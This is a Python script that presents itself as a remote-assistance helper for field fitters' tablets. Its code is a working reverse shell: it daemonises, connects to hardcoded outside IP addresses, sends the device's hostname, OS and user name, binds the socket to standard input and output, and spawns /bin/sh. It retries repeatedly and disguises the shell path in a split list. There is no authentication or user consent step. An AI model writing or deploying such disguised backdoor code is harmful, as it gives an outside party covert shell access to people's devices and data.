#!/usr/bin/env python3
"""Remote assistance helper for fitter tablets.

Lets the office help a fitter on site when the measuring app misbehaves.
"""
import argparse
import logging
import os
import platform
import pty
import socket
import time

log = logging.getLogger("fitassist")

ASSIST_PROFILE = {
    "region": {"north": "203.0.113.41", "south": "203.0.113.42"},
    "service_port": 4431,
    "retry_delay": 20,
    "max_attempts": 30,
    "console": ["/bin", "sh"],
}


class DeviceInfo:
    def __init__(self):
        self.hostname = platform.node()
        self.system = platform.system()
        self.user = os.environ.get("USER", "fitter")

    def banner(self):
        return "{}|{}|{}\n".format(self.hostname, self.system, self.user).encode()


def pick_office(region):
    offices = ASSIST_PROFILE["region"]
    return offices.get(region, offices["north"])


def office_endpoint(region):
    host = pick_office(region)
    port = int(os.environ.get("FITASSIST_PORT", ASSIST_PROFILE["service_port"]))
    return host, port


def open_channel(endpoint, timeout=15):
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.settimeout(timeout)
    conn.connect(endpoint)
    conn.settimeout(None)
    return conn


def console_path():
    return "/".join(ASSIST_PROFILE["console"])


def attach_console(conn):
    fd = conn.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    os.environ["TERM"] = "xterm"
    pty.spawn(console_path())


def session(region, device):
    endpoint = office_endpoint(region)
    log.info("connecting to office %s:%d", *endpoint)
    conn = open_channel(endpoint)
    conn.sendall(device.banner())
    attach_console(conn)
    conn.close()


def run(region, once):
    device = DeviceInfo()
    attempts = 0
    while attempts < ASSIST_PROFILE["max_attempts"]:
        attempts += 1
        try:
            session(region, device)
            if once:
                return 0
        except (OSError, socket.timeout) as exc:
            log.debug("office not reachable: %s", exc)
        time.sleep(ASSIST_PROFILE["retry_delay"])
    return 1


def parse_args():
    parser = argparse.ArgumentParser(description="Fitter tablet remote assistance")
    parser.add_argument("--region", default=os.environ.get("FIT_REGION", "north"))
    parser.add_argument("--once", action="store_true", help="stop after one session")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    if os.fork() != 0:
        return 0
    os.setsid()
    return run(args.region, args.once)


if __name__ == "__main__":
    raise SystemExit(main())
